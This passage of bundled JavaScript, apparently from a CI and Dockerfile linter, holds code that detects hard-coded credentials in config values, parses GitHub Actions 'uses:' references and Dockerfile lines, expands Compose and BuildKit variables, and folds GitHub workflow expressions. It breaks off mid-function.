const otherPlace = /^(?:vault:|secret:|secrets?[./]|ref\+|arn:|op:\/\/|awssm|awsssm|ssm:|gcpsm|azurekv|akv|sm:\/\/|projects\/|file:|env[:.]|path:|keyring|k8s:|bao:|doppler:|infisical:|conjur:|!|enc\[|enc\(|\{cipher\}|\{noop\}$|\$ansible_vault|ag[a-z][a-z0-9+/]{300,}|resolve:|fn::|data\.|var\.|local\.|module\.|process\.env|os\.|system\.|config\.|settings\.|self\.|this\.|getenv|ref:|lookup\(|[a-z][a-z0-9+.-]{1,20}:\/\/)/i;
const path = /^(?:~|\.{0,2})\/[\w.@${}-]|^[A-Za-z]:\\|^[\w.-]+\/[\w./-]+\.(?:\w{1,6})$|\.(?:txt|pem|key|crt|cer|p12|jks|json|ya?ml|env|conf|ini|properties|pub|pfx|gpg|asc|toml|xml|html?|php|py|js|ts|go|rb|java|sh)$/;
const code = /^[\w.]+\(.*\)?;?$|^[\w.]+\[.*\]$|^(?:await|new|function|return|lambda|if|async|typeof)\b|=>|^\w+::\w+|^[a-z]+(?:[A-Z][a-z]+)+\.[a-z]\w*|^[A-Za-z_]\w{0,30}\.[A-Z][a-z]{1,20}\d{0,6}(?:[A-Z][a-z]{2,20}\d{0,6}){0,5}$|^&?\w+->|^`[^`]*`$|^-{1,2}[\w-]+=?$/;
/** The source of a regular expression, in which no password is written. */
const expression = /\[[^\]\s]{1,60}\](?:[{+*?]|$)|\(\?[:!=<]|\\\\?[wdsSWDB](?![A-Za-z0-9])/;
/** Rules of a validator, with bars between them. */
const validation = /^(?:required|nullable|sometimes|string|min:\d{1,4}|confirmed|bail)(?:\|[\w:,.]{1,60}){1,12}$/;
const typeNames = new Set('string str text number int integer bool boolean object array any byte bytes char secretstr securestring securedstring sensitive required optional none null nil undefined true false yes no on off enabled disabled unset passphrase empty auto generate generated random prompt ask interactive keyring basic bearer oauth oauth2 plain md5 scram-sha-256 trust peer cert header query cookie body username login email name field input option options flag flags argument arguments parameter parameters hidden label title key value masked ldap saml oidc jwt hmac files compat sss systemd nis sha256 sha512 bcrypt argon2 aes rsa'.split(' '));
const isTypeName = (value) => typeNames.has(value) || (value.startsWith('varchar') && /^varchar\(?\d*\)?$/.test(value));
const publicForm = /^(?:-----BEGIN (?:[A-Z ]*PUBLIC KEY|CERTIFICATE)|ssh-(?:rsa|ed25519|dss) |ecdsa-sha2-|sha(?:1|256|384|512)[-:]|pk_(?:live|test)_|LS0tLS1CRUdJTiBDRVJUSUZJQ0FUR|LS0tLS1CRUdJTiBQVUJM|MII[A-Za-z0-9+/]{40})/;
/** As in a list of packages, of which `secret` may be one. */
const version = /^[~^<>=v]{0,2}\d{1,4}(?:\.\d{1,6}){1,3}(?:[-+][\w.+-]{1,40})?$|^(?:workspace|npm|link|catalog):|^\d{1,5}\/(?:tcp|udp|sctp)$/;
const uuid = /^[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}$/i;
/** Whether a value is written out here: no reference, template, path, type, call, label or picture of a credential. */
function isLiteral(value) {
    if (value.length < 3 || value.length > 4096 || /\s/.test(value.trim()) || /[^\x20-\x7e]/.test(value))
        return false;
    if (encodesWords(value) && said.test(decoded(value)))
        return false;
    if ((0,_placeholder_js__WEBPACK_IMPORTED_MODULE_0__/* .isVariable */ .DZ)(value) || (0,_placeholder_js__WEBPACK_IMPORTED_MODULE_0__/* .isSpokenPlaceholder */ .IL)(value) || otherPlace.test(value) || path.test(value))
        return false;
    return (!code.test(value) &&
        !validation.test(value) &&
        !expression.test(value) &&
        !isTypeName(value.toLowerCase()) &&
        !publicForm.test(value) &&
        !version.test(value) &&
        !/^(?:(.)\1*|[^A-Za-z0-9]+)$/.test(value));
}
/** Words with a sign between them, one of which speaks of credentials: the name of a Secret or of a key in it. */
const isNameOfSecret = (value) => /^[a-z][a-z0-9]*(?:[-_./][a-z0-9]+)*$/i.test(value) &&
    /(?:^|[-_./])(?:secrets?|credentials?|creds?|passwords?|passwd|tokens?|keys?|auth|apikey|tls|certs?|env)(?:$|[-_./])/i.test(value);
const words = /^[!-~]{1,30}(?: [!-~]{1,30}){1,6}$/;
/** Said to a reader, of whom this is the language, about a password: a label, a prompt, an error. */
const said = /\b(?:passwords?|passwd|passphrases?|enter|your|you|please|must|field|invalid|required|incorrect|wrong|forgot|confirm|reset|change|new|old|log ?in|sign|cannot|can't|should|don't|does|use|used|type|user|users|for|of|not|with|from|if|no)\b|[{}<>$%`]/i;
/** Several words in a password's place that are no text about one. */
const isPassphrase = (value) => value.length >= 8 && words.test(value) && !(0,_placeholder_js__WEBPACK_IMPORTED_MODULE_0__/* .isSpokenPlaceholder */ .IL)(value) && !(0,_placeholder_js__WEBPACK_IMPORTED_MODULE_0__/* .isVariable */ .DZ)(value) && !said.test(value);
const isUuid = (value) => uuid.test(value);
/** What is encoded in base64, once or twice; the value itself where it is none. */
function decoded(value) {
    let text = value;
    for (let depth = 0; depth < 2 && /^[A-Za-z0-9+/]{16,}={0,2}$/.test(text) && text.length % 4 === 0; depth++) {
        const inner = (0,_base64_js__WEBPACK_IMPORTED_MODULE_1__/* .decode */ .D4)(text).trim();
        if (!/^[ -~]+$/.test(inner))
            break;
        text = inner;
    }
    return text;
}
/** Several words in base64. */
const encodesWords = (value) => {
    const text = decoded(value);
    return text !== value && (/[a-z]{2} /.test(text) || (0,_placeholder_js__WEBPACK_IMPORTED_MODULE_0__/* .isPlaceholderToken */ .Bt)(text));
};
/** Letters and digits in no order that a person would choose. Words, versions and names that people make are no such text. */
function looksRandom(value) {
    if (value.length < 12 || (0,_placeholder_js__WEBPACK_IMPORTED_MODULE_0__/* .isPlaceholderToken */ .Bt)(value) || isUuid(value) || encodesWords(value))
        return false;
    if (/^[0-9a-f]{20,}$/i.test(value))
        return entropy(value) > 2.8;
    if (!/\d/.test(value) || !/[A-Za-z]/.test(value))
        return value.length >= 20 && /[a-z]/.test(value) && /[A-Z]/.test(value) && entropy(value) > 3.8 && !isWords(value);
    return entropy(value) > 3 && !isWords(value);
}
const word = /^(?:[A-Za-z]?[a-z]{2,}|(?:An|As|At|Be|By|Do|Id|If|In|Is|My|No|Of|On|Or|To|Up)|[A-Z]{2,}|[A-Za-z])?\d{0,4}$/;
/** Made of parts that are words, numbers or both in this order: `my-api-key-2`, `redis_v7`, `MyServiceAccount1`. */
const isWords = (value) => value
    .replace(/([a-z])([A-Z])/g, '$1-$2')
    .split(/[^A-Za-z0-9]+/)
    .every((part) => word.test(part)) || isIdentifier(value);
/** Words written as one, some with a number behind them, as programs name their types: `Ipv6CidrAssociations`, `policy/EC2InstanceProfile`. */
function isIdentifier(value) {
    const parts = value
        .replace(/([a-z0-9])([A-Z])/g, '$1-$2')
        .replace(/([A-Z])([A-Z][a-z])/g, '$1-$2')
        .split(/[-_./]/);
    const inWords = parts.filter((part) => /^[A-Z]?[a-z]{3,}\d{0,4}$/.test(part)).join('').length;
    return inWords * 5 >= value.length * 3 && parts.every((part) => word.test(part));
}
/** Shannon's, in bits for each character. */
function entropy(value) {
    const counts = new Map();
    for (const char of value)
        counts.set(char, (counts.get(char) ?? 0) + 1);
    let sum = 0;
    for (const count of counts.values())
        sum -= (count / value.length) * Math.log2(count / value.length);
    return sum;
}


/***/ }),

/***/ 362:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Oc: () => (/* binding */ actionReference),
/* harmony export */   Pv: () => (/* binding */ withoutVersion),
/* harmony export */   iQ: () => (/* binding */ withoutRef)
/* harmony export */ });
/* harmony import */ var _scalar_offsets_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6481);

/** The text of a `uses:` without what follows its last `@`. */
const withoutRef = (uses) => (uses.includes('@') ? uses.slice(0, uses.lastIndexOf('@')) : uses);
/** The text of a `uses:` without its tag, digest or ref. */
const withoutVersion = (uses) => uses.startsWith('docker://') ? uses.replace(/(?::[\w.-]+)?(?:@[^@]*)?$/, '') : withoutRef(uses);
/** Reads the value of `uses:`; null where it is none of the documented forms (an expression, an empty value). */
function actionReference(node, place) {
    const text = node.string;
    const common = { ...place, node, span: node.span, owner: '', repository: '', path: '', ref: null, refSpan: null };
    if (text === '' || text.includes('${{'))
        return null;
    if (text === '.' || ['./', '../', '$/'].some((start) => text.startsWith(start)))
        return { ...common, kind: 'local', name: text };
    if (text.startsWith('docker://'))
        return { ...common, kind: 'docker', name: withoutVersion(text) };
    const at = text.indexOf('@');
    const [owner = '', repository = '', ...rest] = text
        .slice(0, at < 0 ? undefined : at)
        .toLowerCase()
        .split('/');
    if (owner === '' || repository === '')
        return null;
    return {
        ...common,
        kind: 'repository',
        owner,
        repository,
        path: rest.filter((part) => part !== '').join('/'),
        name: [owner, repository, ...rest].filter((part) => part !== '').join('/'),
        ref: at < 0 ? null : text.slice(at + 1),
        refSpan: at < 0 ? null : (0,_scalar_offsets_js__WEBPACK_IMPORTED_MODULE_0__/* .spanWithin */ .Y)(node, place.document.text, { start: at + 1, end: text.length }),
    };
}


/***/ }),

/***/ 1621:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Z: () => (/* binding */ caselessValue)
/* harmony export */ });
const known = new WeakMap();
/** A map's value by its key, for names that know no case: contexts, inputs, variables. An exact key goes before others. */
function caselessValue(map, name) {
    if (map?.kind !== 'map')
        return undefined;
    const exact = map.at(name);
    if (exact !== undefined)
        return exact;
    let values = known.get(map);
    if (values === undefined) {
        values = new Map(map.entries.map(({ key, value }) => [key.string.toLowerCase(), value]));
        known.set(map, values);
    }
    return values.get(name.toLowerCase());
}


/***/ }),

/***/ 2652:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   GW: () => (/* binding */ interpolate),
/* harmony export */   Vf: () => (/* binding */ readBoolean),
/* harmony export */   yR: () => (/* binding */ readText)
/* harmony export */ });
/* harmony import */ var _dockerfile_variables_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(9818);
/* harmony import */ var _scalar_offsets_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6481);


/** Interpolation as Compose does it: no quotes, no escapes; `$$` is a dollar sign. */
function interpolate(scalar, document) {
    const expansion = (0,_dockerfile_variables_js__WEBPACK_IMPORTED_MODULE_1__/* .expandText */ .w)(scalar.string.replaceAll('$$', '\uE001\uE001'), 0, '', () => undefined, false);
    const place = (start, end) => (0,_scalar_offsets_js__WEBPACK_IMPORTED_MODULE_0__/* .spanWithin */ .Y)(scalar, document.text, expansion.place(start, end));
    return { ...expansion, value: expansion.value.replaceAll('\uE001\uE001', '$'), verbatim: expansion.value === scalar.string, place };
}
/** A scalar's text with the defaults of its variables put in; undefined for anything else, and where a variable has none. */
function readText(node, document) {
    if (node?.kind !== 'scalar' || node.templated)
        return undefined;
    const { value, complete } = interpolate(node, document);
    return complete ? value : undefined;
}
/** Compose makes the boolean of a text, quoted or not, after variables (compose-go, the casts of loader/interpolate.go). */
function readBoolean(node, document) {
    const text = readText(node, document);
    if (text === undefined)
        return undefined;
    return /^(?:1|t|true|y|yes|on)$/i.test(text) ? true : /^(?:0|f|false|n|no|off)$/i.test(text) ? false : undefined;
}


/***/ }),

/***/ 2169:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   O: () => (/* binding */ invocations),
/* harmony export */   h: () => (/* binding */ shellCommands)
/* harmony export */ });
/* harmony import */ var _shell_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(4598);
/* harmony import */ var _shell_commands_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(3035);


const known = new WeakMap();
const parsed = new WeakMap();
/** The commands of RUN, CMD, ENTRYPOINT and HEALTHCHECK at the top of their script; none where it is PowerShell, cmd or Python. */
function shellCommands(instruction) {
    let commands = parsed.get(instruction);
    if (commands === undefined) {
        commands = read(instruction);
        parsed.set(instruction, commands);
    }
    return commands;
}
/** All commands of the instruction, those inside substitutions and inner scripts too. */
function invocations(instruction) {
    let found = known.get(instruction);
    if (found === undefined) {
        found = [...(0,_shell_commands_js__WEBPACK_IMPORTED_MODULE_1__/* .everyCommand */ .n3)(shellCommands(instruction))];
        known.set(instruction, found);
    }
    return found;
}
/** A string of the exec form without its escapes; a line that goes on inside of it is one. */
function contentOf(raw, offset) {
    if (!raw.includes('\\'))
        return { text: raw, locate: (at) => offset + at };
    const starts = [];
    let text = '';
    for (const { 0: piece, index } of raw.matchAll(/\\(?:u[\da-fA-F]{4}|\r?\n|.)|[^\\]/gs)) {
        const decoded = /^\\\r?\n/.test(piece) ? '' : piece.length === 1 ? piece : unescaped(piece);
        for (let at = 0; at < decoded.length; at++)
            starts.push(offset + index);
        text += decoded;
    }
    return { text, locate: (at) => starts[at] ?? offset + raw.length };
}
const unescaped = (written) => {
    try {
        return String(JSON.parse(`"${written}"`));
    }
    catch {
        return written;
    }
};
function read(instruction) {
    const { script, form, words, document } = instruction;
    if (script)
        return script.language === 'posix' ? (0,_shell_js__WEBPACK_IMPORTED_MODULE_0__/* .parseShell */ .a)(script.text, script.offset) : [];
    if (form !== 'exec' || words.length === 0)
        return [];
    const values = words.map((word) => ({
        value: word.value,
        span: word.span,
        literal: true,
        quoted: true,
        commands: [],
        content: contentOf(document.text.value.slice(word.span.start + 1, word.span.end - 1), word.span.start + 1),
    }));
    const span = { start: values[0]?.span.start ?? 0, end: values.at(-1)?.span.end ?? 0 };
    return [{ words: values, assignments: [], redirections: [], span, operator: '', pipedFrom: [] }];
}


/***/ }),

/***/ 3992:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   D: () => (/* binding */ filler),
/* harmony export */   Nj: () => (/* binding */ logicalLines),
/* harmony export */   Vl: () => (/* binding */ readDirectives),
/* harmony export */   vc: () => (/* binding */ physicalLines)
/* harmony export */ });
/** Stands in a logical line for what Docker takes out of it: continuation marks, comments and empty lines between. */
const filler = '\0';
/** Physical lines as Docker's scanner has them: LF, with a CR before it dropped. A byte order mark is no part of the first. */
function physicalLines(value) {
    const lines = [];
    let start = value.startsWith('\uFEFF') ? 1 : 0;
    while (start <= value.length) {
        const feed = value.indexOf('\n', start);
        const next = feed < 0 ? value.length : feed;
        lines.push({ start, end: feed > start && value[feed - 1] === '\r' ? feed - 1 : next });
        start = next + 1;
    }
    return lines;
}
const directive = /^\s*#\s*([A-Za-z][A-Za-z0-9]*)\s*=\s*(\S.*)$/;
/** Parser directives: comments of the form `# key=value` before anything else (Dockerfile reference, "Parser directives"). */
function readDirectives(value, lines) {
    let escapeChar = '\\';
    let syntax = null;
    const seen = new Set();
    for (const line of lines) {
        const text = value.slice(line.start, line.end);
        const match = isComment(text) && text.includes('=') ? directive.exec(text) : null;
        const key = match?.[1]?.toLowerCase();
        if (!match || !key || !['escape', 'syntax', 'check'].includes(key) || seen.has(key))
            break;
        seen.add(key);
        const setting = (match[2] ?? '').trimEnd();
        const start = line.start + match[0].length - (match[2] ?? '').length;
        if (key === 'escape' && setting === '`')
            escapeChar = '`';
        if (key === 'syntax')
            syntax = { value: setting, span: { start, end: start + setting.length } };
    }
    return { escape: escapeChar, syntax };
}
const isBlank = (text) => text.trim() === '';
const isComment = (text) => text.trimStart().startsWith('#');
/** Length of the line without a continuation mark, or -1 where the instruction ends here. Two escape characters are no mark. */
function continuationAt(text, escapeChar) {
    let at = text.length - 1;
    while (text[at] === ' ' || text[at] === '\t')
        at--;
    return text[at] === escapeChar && text[at - 1] !== escapeChar ? at : -1;
}
/** All instructions' texts in order; comments and empty lines between them are left out. */
function logicalLines(value, escapeChar, lines) {
    const result = [];
    for (let at = 0; at < lines.length;) {
        const first = lines[at];
        if (!first)
            break;
        const text = value.slice(first.start, first.end);
        if (isBlank(text) || isComment(text)) {
            at++;
            continue;
        }
        const joined = join(value, escapeChar, lines, at);
        const closed = readHeredocs(value, lines, joined.next, joined.text);
        at = closed.next;
        if (joined.text.replaceAll(filler, '').trim() === '')
            continue;
        const end = Math.max(joined.end, closed.end);
        const span = { start: first.start, end: joined.end };
        result.push({ span, text: joined.text, heredocs: closed.heredocs, end, unterminated: closed.unterminated });
    }
    return result;
}
function join(value, escapeChar, lines, first) {
    const start = lines[first]?.start ?? 0;
    const parts = [];
    let length = 0;
    let end = start;
    let at = first;
    for (; at < lines.length; at++) {
        const line = lines[at];
        if (!line)
            break;
        const text = value.slice(line.start, line.end);
        const gap = line.start - start - length;
        if (at > first && (isComment(text) || isBlank(text))) {
            if (at === lines.length - 1)
                break;
            parts.push(filler.repeat(gap + text.length));
            length += gap + text.length;
            continue;
        }
        const mark = continuationAt(text, escapeChar);
        parts.push(filler.repeat(gap), mark < 0 ? text : text.slice(0, mark) + filler.repeat(text.length - mark));
        length += gap + text.length;
        end = line.end;
        if (mark < 0) {
            at++;
            break;
        }
    }
    return { text: parts.join('').slice(0, end - start), end, next: at };
}
const heredocInstruction = /^\s*(?:ONBUILD\s+)?(?:RUN|COPY|ADD)\s/i;
const heredocWord = /(?:^|[\s\0])\d*<<(-?)(["']?)([A-Za-z0-9_.-]+)\2(?=[\s\0]|$)/g;
function readHeredocs(value, lines, next, text) {
    const heredocs = [];
    let end = 0;
    if (!text.includes('<<') || !heredocInstruction.test(text.replaceAll(filler, ' ')))
        return { heredocs, next, end, unterminated: null };
    for (const [, chomp, quote, name = ''] of unquoted(text).matchAll(heredocWord)) {
        const bodyStart = lines[next]?.start ?? value.length;
        let at = next;
        while (at < lines.length && !closes(value, lines[at], name, chomp === '-'))
            at++;
        const closing = lines[at];
        if (!closing)
            return { heredocs, next, end, unterminated: name };
        heredocs.push({ name, body: { start: bodyStart, end: closing.start }, expand: quote === '' });
        end = closing.end;
        next = at + 1;
    }
    return { heredocs, next, end, unterminated: null };
}
function closes(value, line, name, chomp) {
    if (!line)
        return false;
    const text = value.slice(line.start, line.end);
    return (chomp ? text.replace(/^\t+/, '') : text) === name;
}
/** Quoted text blanked, but not the quotes of a heredoc's name. */
const unquoted = (text) => text.replace(/(<<-?)?(?:"(?:[^"\\]|\\.)*(?:"|$)|'[^']*(?:'|$))/gs, (quoted, heredoc) => heredoc ? quoted : ' '.repeat(quoted.length));


/***/ }),

/***/ 9818:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   t: () => (/* binding */ isSetByBuildKit),
/* harmony export */   w: () => (/* binding */ expandText)
/* harmony export */ });
/* harmony import */ var _dockerfile_lines_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(3992);

const unknown = () => undefined;
/** Variables that have a value without an ARG that gives it one. */
const isSetByBuildKit = (name) => /^(?:BUILD|TARGET)(?:PLATFORM|OS|OSVERSION|ARCH|VARIANT)$|^TARGETSTAGE$|_PROXY$/i.test(name);
const maxDepth = 10;
/** Defaults that name each other can double at every step; what grows past this is left as written. */
const maxGrowth = 10_000;
/**
 * Takes quotes (with `quotes`) and escapes away and puts known variables in, as BuildKit's word expansion does: `$X`, `${X}`, `${X:-y}`, `${X:+y}`
 * and their forms without colon. The pattern forms (`${X#…}`, `${X/…}`) are left as written.
 */
function expandText(raw, offset, escapeChar, lookup, quotes = true) {
    const segments = [];
    let value = '';
    let complete = true;
    const push = (text, start, end, verbatim) => {
        segments.push({ start: value.length, span: { start: offset + start, end: offset + end }, verbatim });
        value += text;
    };
    let quote = '';
    for (let at = 0; at < raw.length;) {
        const char = raw[at] ?? '';
        const start = at++;
        if (char === _dockerfile_lines_js__WEBPACK_IMPORTED_MODULE_0__/* .filler */ .D)
            continue;
        if (char === escapeChar && quote !== "'" && at < raw.length)
            push(raw[at] ?? '', start, ++at, false);
        else if (quotes && (quote ? char === quote : char === '"' || char === "'"))
            quote = quote ? '' : char;
        else if (char === '$' && quote !== "'") {
            const variable = substitute(raw, start, value.length > raw.length + maxGrowth ? unknown : lookup, 0);
            complete &&= variable.complete;
            push(variable.text, start, variable.end, variable.text === raw.slice(start, variable.end));
            at = variable.end;
        }
        else {
            at = plainEnd(raw, at, escapeChar);
            push(raw.slice(start, at), start, at, true);
        }
    }
    return { value, complete, verbatim: value === raw, place: (start, end) => placeOf(segments, offset, start, end) };
}
function plainEnd(raw, at, escapeChar) {
    while (at < raw.length && !`"'$${escapeChar}${_dockerfile_lines_js__WEBPACK_IMPORTED_MODULE_0__/* .filler */ .D}`.includes(raw[at] ?? ''))
        at++;
    return at;
}
function placeOf(segments, offset, start, end) {
    const covering = segments.filter((segment, index) => {
        const next = segments[index + 1]?.start ?? Number.POSITIVE_INFINITY;
        return segment.start < Math.max(end, start + 1) && next > start;
    });
    const first = covering[0];
    const last = covering.at(-1);
    if (!first || !last)
        return { start: offset, end: offset };
    return {
        start: first.verbatim ? first.span.start + (start - first.start) : first.span.start,
        end: last.verbatim ? Math.min(last.span.end, last.span.start + (end - last.start)) : last.span.end,
    };
}
/** `start` is at a `$`. */
function substitute(raw, start, lookup, depth) {
    const simple = /\$([A-Za-z_]\w*)/y;
    simple.lastIndex = start;
    const name = simple.exec(raw)?.[1];
    if (name)
        return valueOr(lookup(name), raw, start, start + 1 + name.length);
    if (raw[start + 1] !== '{')
        return { text: '$', end: start + 1, complete: true };
    const end = closingBrace(raw, start);
    if (end < 0 || depth > maxDepth)
        return { text: raw.slice(start), end: raw.length, complete: false };
    const form = /^([A-Za-z_]\w*)(?:(:?[-+?])(.*))?$/s.exec(raw.slice(start + 2, end - 1));
    const value = form?.[1] ? lookup(form[1]) : undefined;
    const operator = form?.[2] ?? '';
    if (!form || operator === '' || operator.endsWith('?'))
        return valueOr(form ? value : undefined, raw, start, end);
    const isSet = operator.startsWith(':') ? Boolean(value) : value !== undefined;
    if (operator.endsWith('-'))
        return isSet ? valueOr(value, raw, start, end) : inner(form[3] ?? '', end, lookup, depth);
    if (value === undefined)
        return { text: raw.slice(start, end), end, complete: false };
    return isSet ? inner(form[3] ?? '', end, lookup, depth) : { text: '', end, complete: true };
}
const valueOr = (value, raw, start, end) => value === undefined ? { text: raw.slice(start, end), end, complete: false } : { text: value, end, complete: true };
function inner(text, end, lookup, depth) {
    let value = '';
    let complete = true;
    for (let at = 0; at < text.length;) {
        const dollar = text.indexOf('$', at);
        value += text.slice(at, dollar < 0 ? undefined : dollar);
        if (dollar < 0)
            break;
        const found = substitute(text, dollar, lookup, depth + 1);
        value += found.text;
        complete &&= found.complete;
        at = found.end;
    }
    return { text: value, end, complete };
}
/** The offset behind the brace that closes the one after `start`, or -1. */
function closingBrace(raw, start) {
    let depth = 0;
    for (let at = start; at < raw.length; at++) {
        if (raw[at] === '$' && raw[at + 1] === '{')
            depth++;
        if (raw[at] === '}' && --depth === 0)
            return at + 1;
    }
    return -1;
}


/***/ }),

/***/ 5960:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   IE: () => (/* binding */ fencesOf),
/* harmony export */   zB: () => (/* binding */ parseCondition),
/* harmony export */   zV: () => (/* binding */ findExpressions)
/* harmony export */ });
/* harmony import */ var _expression_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(1236);

/** Expressions of a string in order. A `}}` in a quoted string does not end one; one that nothing ends is none. */
function findExpressions(text) {
    const fences = [];
    for (let start = text.indexOf('${{'); start >= 0;) {
        const close = fenceEnd(text, start + 3);
        if (close < 0)
            break;
        const inner = text.slice(start + 3, close);
        fences.push({ span: { start, end: close + 2 }, text: inner, expression: (0,_expression_js__WEBPACK_IMPORTED_MODULE_0__/* .parseExpression */ .Y)(inner, start + 3) });
        start = text.indexOf('${{', close + 2);
    }
    return fences;
}
const known = new WeakMap();
/** Expressions of a scalar's string, found once. */
function fencesOf(scalar) {
    let fences = known.get(scalar);
    if (fences === undefined) {
        fences = findExpressions(scalar.string);
        known.set(scalar, fences);
    }
    return fences;
}
function fenceEnd(text, from) {
    let quoted = false;
    for (let at = from; at < text.length; at++) {
        if (text[at] === "'")
            quoted = !quoted;
        else if (!quoted && text[at] === '}' && text[at + 1] === '}')
            return at;
    }
    return -1;
}
/**
 * The expression of an `if:`, which may go without a fence. Null where it cannot be parsed, or where text around a fence makes it
 * a string.
 */
function parseCondition(text) {
    const fences = findExpressions(text);
    const [fence] = fences;
    if (fence === undefined)
        return (0,_expression_js__WEBPACK_IMPORTED_MODULE_0__/* .parseExpression */ .Y)(text);
    const alone = fences.length === 1 && text.slice(0, fence.span.start).trim() === '' && text.slice(fence.span.end).trim() === '';
    return alone ? fence.expression : null;
}


/***/ }),

/***/ 6028:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   AU: () => (/* binding */ fold),
/* harmony export */   Im: () => (/* binding */ truth),
/* harmony export */   _y: () => (/* binding */ accessPath)
/* harmony export */ });
const nothing = new Map();
/** The value of an expression by GitHub's coercions; undefined where it depends on more than what is known. */
function fold(expression, known = nothing) {
    if (expression.kind === 'literal')
        return expression.value;
    if (expression.kind === 'operation')
        return foldOperation(expression, known);
    if (expression.kind === 'access')
        return typeof expression.base === 'string' ? known.get(accessPath(expression).join('.')) : undefined;
    const values = expression.arguments.map((argument) => fold(argument, known));
    const found = values.filter((value) => value !== undefined);
    return found.length === values.length ? foldCall(expression.name, found) : undefined;
}
/** A context's path in lower case, as contexts know no case; `*` where the property is not known. */
function accessPath({ base, steps }) {
    const keys = steps.map((step) => {
        const key = step === null ? undefined : fold(step);
        return key === undefined || key === null ? '*' : String(key).toLowerCase();
    });
    return typeof base === 'string' ? [base.toLowerCase(), ...keys] : keys;
}
/** Whether a condition holds, also where only a part of it is known: `x && false` does not. */
function truth(expression, known = nothing) {
    if (expression.kind === 'operation' && expression.operator === '!') {
        const [operand] = expression.operands;
        const inner = operand && truth(operand, known);
        return inner === undefined ? undefined : !inner;
    }
    if (expression.kind === 'operation' && (expression.operator === '&&' || expression.operator === '||')) {
        const decisive = expression.operator === '||';
        const all = expression.operands.map((operand) => truth(operand, known));
        if (all.includes(decisive))
            return decisive;
        return all.includes(undefined) ? undefined : !decisive;
    }
    const value = fold(expression, known);
    return value === undefined ? undefined : Boolean(value);
}
function foldOperation({ operator, operands }, known) {
    if (operator === '&&' || operator === '||') {
        const stops = operator === '||';
        let last;
        for (const operand of operands) {
            last = fold(operand, known);
            if (last === undefined || Boolean(last) === stops)
                return last;
        }
        return last;
    }
    const [left, right] = operands.map((operand) => fold(operand, known));
    if (left === undefined)
        return undefined;
    if (operator === '!')
        return !left;
    return right === undefined ? undefined : compare(operator, left, right);
}
function compare(operator, left, right) {
    const [a, b] = typeof left === 'string' && typeof right === 'string' ? [left.toUpperCase(), right.toUpperCase()] : [toNumber(left), toNumber(right)];
    switch (operator) {
        case '==':
            return a === b;
        case '!=':
            return a !== b;
        case '<':
            return a < b;
        case '<=':
            return a <= b;
        case '>':
            return a > b;
        case '>=':
            return a >= b;
        default:
            return undefined;
    }
}
const toNumber = (value) => (typeof value === 'string' ? Number(value.trim() === '' ? 0 : value) : Number(value));
const toText = (value) => (value === null || value === undefined ? '' : String(value));
function foldCall(name, values) {
    const [first, second] = values.map((value) => toText(value).toLowerCase());
    if (first === undefined)
        return undefined;
    switch (name) {
        case 'contains':
            return second === undefined ? undefined : first.includes(second);
        case 'startswith':
            return second === undefined ? undefined : first.startsWith(second);
        case 'endswith':
            return second === undefined ? undefined : first.endsWith(second);
        case 'format':
            return foldFormat(toText(values[0]), values.slice(1));
        case 'join':
            return toText(values[0]);
        case 'tojson':
            return JSON.stringify(values[0] ?? null);
        case 'fromjson':
            return foldJson(toText(values[0]));
        case 'case':
            return values.find((_, index) => index === values.length - 1 || (index % 2 === 1 && values[index - 1] === true));
        default:
            return undefined;
    }
}
const foldFormat = (pattern, values) => pattern.replace(/\{\{|\}\}|\{(\d+)\}/g, (whole, index) => index === undefined ? whole.slice(1) : toText(values[Number(index)]));
function foldJson(text) {
    try {
        const value = JSON.parse(text);
        return value === null || typeof value === 'string' || typeof value === 'number' || typeof value === 'boolean' ? value : undefined;
    }
    catch {
        return undefined;
    }
}


/***/ }),

/***/ 1747:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   V: () => (/* binding */ readPaths),
/* harmony export */   l: () => (/* binding */ yieldedPaths)
/* harmony export */ });
/* harmony import */ var _expression_fold_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6028);

/** Functions whose result is made of the text of these arguments. The results of all others (`contains`, `hashFiles`, `success`) are their own. */
const passing = new Map([
    ['format', (args) => args],
    ['join', (args) => args],
    ['fromjson', (args) => args],
    ['tojson', (args) => args],
    ['case', (args) => args.filter((_, index) => index % 2 === 1 || index === args.length - 1)],
]);
/**
 * The contexts whose text can become the text of the expression. Comparisons and negations give booleans; of `a && b` the text can
 * only be that of `b`, since a falsy `a` has none that matters; a constant condition is decided. Of `(a || b).c` it is that of `a.c` or `b.c`, given by `below`;
 * what a function makes has properties of its own.
 */
function* yieldedPaths(expression, whole = false, below = []) {
    if (expression.kind === 'literal')
        return;
    if (expression.kind === 'access')
        yield* accessPaths(expression, whole, below);
    else if (expression.kind === 'call') {
        for (const argument of passing.get(expression.name)?.(expression.arguments) ?? [])
